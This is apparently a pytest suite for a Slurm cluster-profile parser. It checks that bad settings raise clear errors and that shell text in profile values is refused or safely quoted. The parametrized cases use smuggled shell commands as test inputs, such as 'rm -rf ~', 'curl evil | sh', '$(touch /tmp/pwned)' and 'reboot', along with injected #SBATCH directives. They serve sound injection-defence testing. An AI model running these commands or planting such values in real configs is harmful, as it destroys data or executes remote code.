"""Cluster profiles: the committed example loads; bad profiles fail with a ConfigError that
names the problem; values that could inject shell text are refused or quoted."""

from __future__ import annotations

import shlex
import subprocess
from pathlib import Path

import pytest

from canzona.errors import ConfigError
from canzona.sweep.profile import load_profile, parse_profile

ROOT = Path(__file__).resolve().parents[1]
BASE = {
    "partition": "gpu",
    "gpus_per_node": 8,
    "cpus_per_task": 64,
    "hbm_gb": 80,
    "peak_tflops": 989,
    "max_nodes": 64,
    "account": "proj",
}


def prof(**over):
    t = dict(BASE)
    t.update(over)
    return parse_profile({"cluster": {k: v for k, v in t.items() if v is not None}}, "p.toml")


def test_example_profile_loads_and_fits_256_gpus():
    p = load_profile(ROOT / "slurm/profiles/example.toml")
    assert p.partition and p.gpus_per_node == 8
    assert p.nodes_for(256) == 32


def test_gpu_profile_sets_the_allocator_the_memory_model_assumes():
    """The fragmentation term of the GPU hardware profiles assumes expandable segments; the GPU
    Slurm profile exports the setting before every srun step."""
    p = load_profile(ROOT / "slurm/profiles/example.toml")
    assert dict(p.env)["PYTORCH_CUDA_ALLOC_CONF"] == "expandable_segments:True"
    assert "export PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True" in p.setup_lines()


def test_missing_partition_is_a_clear_error():
    with pytest.raises(ConfigError, match="partition"):
        prof(partition=None)


def test_gpus_per_node_not_dividing_world_is_a_clear_error():
    p = prof(gpus_per_node=6)
    with pytest.raises(ConfigError, match="gpus_per_node = 6 does not divide the world size 256"):
        p.nodes_for(256)


@pytest.mark.parametrize(
    "key,value",
    [
        ("partition", "gpu\nrm -rf ~"),
        ("partition", "gpu; curl evil | sh"),
        ("account", "proj $(touch /tmp/pwned)"),
        ("qos", "normal`id`"),
        ("constraint", "h100\n#SBATCH --nodes=1000"),
        ("mem", "0; reboot"),
        ("name", "x y"),
        ("reservation", "r $(id)"),
        ("exclude", "gpu-a01;reboot"),
        ("switches", "4@30:00; id"),
        ("gres", "gpu:8\n#SBATCH --nodes=999"),
        ("mail_user", "me@x.org; mail"),
        ("wckey", "a b"),
    ],
)
def test_directive_values_with_shell_text_are_refused(key, value):
    with pytest.raises(ConfigError, match=key):
        prof(**{key: value})


@pytest.mark.parametrize(
    "over,match",
    [
        ({"modules": ["cuda/12.4; rm -rf ~"]}, "module name"),
        ({"env": {"BAD KEY": "1"}}, "env key"),
        ({"env": {"X": "a\nb"}}, "env.X"),
        ({"env": {"RANK": "0"}}, "launcher"),
        ({"venv": "/opt/venv\nrm -rf ~"}, "venv"),
        ({"gpus_per_node": 0}, "gpus_per_node"),
        ({"gpus_per_node": "8"}, "gpus_per_node must be int"),
        ({"setup": ["echo hi"]}, "unknown key"),
        ({"exclusive": "yes"}, "exclusive must be bool"),
        ({"cpus_per_task": None}, "missing required key 'cpus_per_task'"),
        ({"hbm_gb": None}, "missing required key 'hbm_gb'"),
        ({"max_nodes": 0}, "max_nodes must be > 0"),
        ({"array_parallelism": 4}, "array_parallelism is no longer a profile key: use max_nodes"),
        ({"max_num_timeout": 2}, "no longer requeued"),
        ({"srun_args": ["--mpi=pmix; id"]}, "srun_args entry"),
        ({"srun_args": ["--kill-on-bad-exit=0"]}, "may not set --kill-on-bad-exit"),
        ({"srun_args": ["--cpus-per-task=2"]}, "may not set --cpus-per-task.*cpus_per_task"),
        ({"container": {"runtime": "docker", "image": "x"}}, "runtime must be one of pyxis, apptainer"),
        ({"container": {"runtime": "pyxis", "image": "img; id"}}, "image"),
        ({"container": {"runtime": "pyxis", "image": "i", "mounts": ["/a:/b $(id)"]}}, "mounts"),
        ({"python_for": {"megatron-muon": "/p\nid"}}, "python_for"),
    ],
)
def test_bad_values_are_clear_errors(over, match):
    with pytest.raises(ConfigError, match=match):
        prof(**over)


@pytest.mark.multiproc
def test_setup_values_are_quoted_not_pasted(tmp_path):
    marker = tmp_path / "pwned"
    p = prof(
        modules=["cuda/12.4", "nccl"],
        venv=f"/opt/my venv/$(touch {marker})",
        workdir="/work/it's here",
        env={"NCCL_DEBUG": "WARN", "EVIL": f"$(touch {marker}); `touch {marker}`"},
    )
    lines = p.setup_lines()
    assert lines[0] == "module load cuda/12.4 nccl"
    assert lines[1] == "source " + shlex.quote(f"/opt/my venv/$(touch {marker})/bin/activate")
    # Run the export lines in a real shell: the value arrives verbatim, nothing is executed.
    script = "\n".join(lines[3:]) + '\nprintf %s "$EVIL"'
    out = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=True).stdout
    assert out == f"$(touch {marker}); `touch {marker}`"
    assert not marker.exists()


def test_yaml_profiles_point_to_toml(tmp_path):
    f = tmp_path / "site.yaml"
    f.write_text("cluster: {}\n")
    with pytest.raises(ConfigError, match="TOML"):
        load_profile(f)


def test_interpreter_defaults_to_the_venv_then_container_and_per_method():
    assert prof(venv="/opt/v").interpreter() == "/opt/v/bin/python"
    assert prof(venv="/opt/v", python="/usr/bin/python3").interpreter() == "/usr/bin/python3"
    pyxis = {"runtime": "pyxis", "image": "nvcr.io#nvidia/pytorch:25.01-py3", "python": "python3"}
    assert prof(container=pyxis).interpreter() == "python3"
    p = prof(venv="/opt/v", python_for={"megatron-muon": "/opt/peer/bin/python"})
    assert p.interpreter("megatron-muon") == "/opt/peer/bin/python" and p.interpreter("canzona") == "/opt/v/bin/python"
    assert p.excluded("megatron-muon") is None
    why = prof(venv="/opt/v").excluded("megatron-muon")
    assert "megatron-core >= 0.19" in why and "python_for" in why
    assert "exclude_methods" in prof(venv="/opt/v", exclude_methods=["sc"]).excluded("sc")


def test_wckey_on_off_or_a_value():
    assert prof().wckey is None and prof(wckey=False).wckey is None
    assert prof(wckey=True).wckey == "canzona" and prof(wckey="proj-x").wckey == "proj-x"
